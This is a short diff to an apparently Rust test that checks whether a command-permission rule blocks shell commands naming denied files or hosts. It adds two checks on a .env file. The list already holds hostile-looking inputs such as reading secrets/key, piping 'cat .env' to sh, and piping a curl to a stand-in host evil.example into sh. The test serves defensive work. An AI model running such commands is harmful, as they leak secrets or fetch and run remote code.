@@ -406,6 +406,8 @@ fn without_a_sandbox_a_command_may_not_name_a_file_or_host_that_a_rule_denies() 
     };
     for line in [
         "dd if=secrets/key",
+        "test -f .env",
+        "[[ ! -e .env ]]",
         "echo 'cat .env' | sh",
         "uv run cat .env",
         "echo curl evil.example | sh",
